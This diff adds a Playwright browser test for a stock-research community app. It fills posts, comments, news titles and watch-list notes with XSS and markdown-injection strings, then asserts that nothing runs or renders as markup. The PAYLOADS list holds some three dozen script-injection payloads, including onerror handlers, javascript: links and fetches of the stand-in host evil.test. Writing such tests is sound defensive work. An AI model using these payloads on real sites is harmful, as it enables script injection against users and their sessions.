@@ -1,0 +1,186 @@
+"""What strangers write, in real Chromium: nothing of it runs, nothing is fetched, and it is read as it was written."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Callable, Iterator
+from datetime import UTC, datetime
+from typing import Final
+
+import live_app
+import pytest
+from playwright.sync_api import Page, expect
+
+from stocklab.community import (
+    Category,
+    Comments,
+    Draft,
+    Moderation,
+    NewsFilters,
+    Posts,
+    Reason,
+    Remark,
+    SubjectKind,
+    WatchList,
+)
+from stocklab.db import Database, DisclosureRow, NewsItemRow, OwnerRow, PublicationRow, open_database
+
+pytestmark = pytest.mark.browser
+
+# every one would call `pwned` or ask http://evil.test for something, where it is taken for markup
+PAYLOADS: Final = (
+    "<script>pwned()</script>",
+    "<img src=x onerror=pwned()>",
+    "<img src=http://evil.test/a.png>",
+    "<svg/onload=pwned()>",
+    "<svg><script href=http://evil.test/s.js></script></svg>",
+    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
+    "<iframe src=http://evil.test></iframe>",
+    "<a href=javascript:pwned()>x</a>",
+    "<style>@import 'http://evil.test/c.css';</style>",
+    "<style>*{background:url(http://evil.test/b.png)}</style>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
+    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
+    "<details open ontoggle=pwned()>",
+    "<link rel=stylesheet href=http://evil.test/l.css>",
+    "<meta http-equiv=refresh content='0;url=http://evil.test'>",
+    "<base href=http://evil.test/>",
+    "<form action=http://evil.test><button>x</button></form>",
+    "<object data=http://evil.test></object><embed src=http://evil.test>",
+    "'\"><img src=x onerror=pwned()>",
+    "</textarea></title></style></script><img src=x onerror=pwned()>",
+    "[x](javascript:pwned())",
+    "[x](JaVaScRiPt&colon;pwned())",
+    "[x](data:text/html,<script>pwned()</script>)",
+    "[x](vbscript:pwned())",
+    "![x](http://evil.test/i.png)",
+    "![x](javascript:pwned())",
+    "[![x](http://evil.test/i.png)](http://evil.test)",
+    "![x][r]\n\n[r]: http://evil.test/r.png",
+    "<http://evil.test/auto>",
+    "[x](http://evil.test \"' onmouseover=pwned() x='\")",
+    'http://evil.test/"onmouseover=pwned()',
+    ":red[red] :material/verified: :small[x] :blue-badge[admin] :streamlit: :smile:",
+    "$\\href{javascript:pwned()}{x}$ $$\\includegraphics{http://evil.test/t.png}$$",
+    "```html onload=pwned()\n<script>pwned()</script>\n```",
+    "| <img src=x onerror=pwned()> | b |\n|---|---|\n| [x](javascript:pwned()) | 2 |",
+    "{{constructor.constructor('pwned()')()}} ${pwned()} #{pwned()}",
+    "\u202e<script>pwned()</script>\u202c",
+)
+SHORT: Final = " ".join(PAYLOADS)
+
+
+@pytest.fixture(scope="module")
+def hostile(live: live_app.LiveApp) -> Iterator[dict[str, str]]:
+    """A home in which every field holds them; the ids of the post and of its author's reports."""
+    database = open_database(f"sqlite:///{live.home / 'stocklab.db'}")
+    with database.write() as session:
+        session.add(OwnerRow(id="evil", name=PAYLOADS[1]))
+        session.flush()
+        values = {"version": 1, "fingerprint": "f" * 64, "visibility": "public", "metrics": {"cagr": 0.1}, "curve": {}}
+        session.add(PublicationRow(id="pub", owner_id="evil", name=PAYLOADS[18], **values))
+        moment = datetime.now(UTC)
+        for number, words in enumerate(PAYLOADS):
+            link = "javascript:pwned()" if number % 2 else f"http://evil.test/{number}"
+            values = {"title": words, "link": link, "published_at": moment, "first_seen_at": moment}
+            session.add(NewsItemRow(key=f"{number:064x}", symbol="005930", **values))
+            values = {"title": words, "kind": "halt", "published_on": moment.date(), "first_seen_at": moment}
+            session.add(DisclosureRow(filing_no=f"20261128{number:06d}", symbol=f"<b>{number}", **values))
+    yield _write(database)
+    database.close()
+
+
+def _write(database: Database) -> dict[str, str]:
+    draft = Draft(
+        category=Category.STRATEGY,
+        title=SHORT[:120],
+        body="\n\n".join(PAYLOADS),
+        tags=tuple(words[:30] for words in PAYLOADS[:8]),
+        publication_id="pub",
+    )
+    post_id = Posts(database).write("evil", draft)
+    for words in PAYLOADS:
+        Comments(database).write("evil" if len(words) % 2 else "local", Remark(body=words, post_id=post_id))
+    for words in PAYLOADS[:8]:
+        Posts(database).write("local", Draft(category=Category.FREE, title=words[:120], body=words))
+    Moderation(database).report("evil", SubjectKind.POST, post_id, Reason.OTHER, note=SHORT[:1900])
+    NewsFilters(database).save("local", "<img src=x onerror=pwned()>", {"category": "news", "symbols": ["<b>"]})
+    WatchList(database).add("local", "<svg/onload=p()>")
+    WatchList(database).note("local", "<svg/onload=p()>", SHORT[:200])
+    return {"post": post_id}
+
+
+def _attacked(page: Page) -> list[str]:
+    """What would have run: a function every payload calls, tags that have no business in texts, foreign addresses."""
+    return page.evaluate(
+        """() => {
+            const bad = [];
+            if (window.__pwned) bad.push('ran');
+            const inside = '.lab-words, .lab-post, .lab-post-line, .lab-news, .lab-comment, .lab-card-name, .lab-table, .lab-tag';
+            for (const root of document.querySelectorAll(inside)) {
+                for (const node of root.querySelectorAll('*')) {
+                    if (/^(script|img|svg|iframe|style|link|meta|base|form|object|embed|math|details|input)$/i.test(node.tagName)
+                        && !node.closest('style[data-emotion]')) bad.push(node.tagName);
+                    for (const one of node.attributes) if (/^on/i.test(one.name)) bad.push(one.name);
+                }
+                for (const link of root.querySelectorAll('a')) {
+                    if (!/^https?:/.test(link.getAttribute('href') || '')) bad.push('href ' + link.getAttribute('href'));
+                    if (!(link.rel || '').includes('noopener')) bad.push('rel of ' + link.href);
+                }
+            }
+            return bad;
+        }"""
+    )
+
+
+def _armed(visitor: Callable[..., Page], address: str) -> Page:
+    page = visitor("/system")
+    page.add_init_script("window.pwned = () => { window.__pwned = true; }; window.alert = window.pwned")
+    page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
+    page.goto(page.url.split("/system")[0] + address)
+    live_app.settled(page)
+    page.wait_for_timeout(500)
+    return page
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        *("/community?lang=en", "/community?kind=strategy", "/community?lang=en&community_search=pwned"),
+        *("/community?tag=%3Cimg%20src%3Dx%20onerror%3Dpwned()%3E", "/community?post=%3Cimg%20onerror=pwned()%3E"),
+        *("/community?write=1&publication=%3Cimg%20src%3Dx%3E", "/watch", "/news", "/news?lang=en"),
+    ],
+)
+def test_nothing_a_stranger_wrote_runs(visitor: Callable[..., Page], hostile: dict[str, str], address: str) -> None:
+    page = _armed(visitor, address)
+    expect(page.locator("h1").first).to_be_visible()
+    assert _attacked(page) == []
+
+
+def test_a_hostile_post_is_read_as_it_was_written(visitor: Callable[..., Page], hostile: dict[str, str]) -> None:
+    page = _armed(visitor, f"/community?post={hostile['post']}&lang=en")
+    words = page.locator(".lab-post .lab-words")
+    expect(words).to_contain_text("<script>pwned()</script>")
+    expect(words).to_contain_text(":red[red] :material/verified: :small[x] :blue-badge[admin]")
+    expect(words).to_contain_text("$\\href{javascript:pwned()}{x}$")
+    assert words.locator(".katex").count() == 0
+    assert _attacked(page) == []
+    for _turn in range(2):
+        page.get_by_role("button", name="More comments").click() if _turn == 0 else None
+        live_app.settled(page)
+        assert _attacked(page) == []
+    for link in words.locator("a").all():
+        link.hover()
+    assert not page.evaluate("Boolean(window.__pwned)")
+
+
+def test_titles_in_lists_are_no_markup(visitor: Callable[..., Page], hostile: dict[str, str]) -> None:
+    page = _armed(visitor, "/community?lang=en")
+    titles = page.locator("[data-testid=stPageLink]").all_inner_texts()
+    assert any("<script>pwned()</script>" in title.replace("\u2060", "") for title in titles)
+    icons = page.locator("[data-testid=stMain] [data-testid=stPageLink] a [data-testid=stIconMaterial]")
+    assert set(icons.all_inner_texts()) == {"forum"}  # the page's own
+    page.get_by_role("link", name=re.compile("onerror")).first.click()
+    live_app.settled(page)
+    expect(page).to_have_url(re.compile("post="))
+    assert _attacked(page) == []
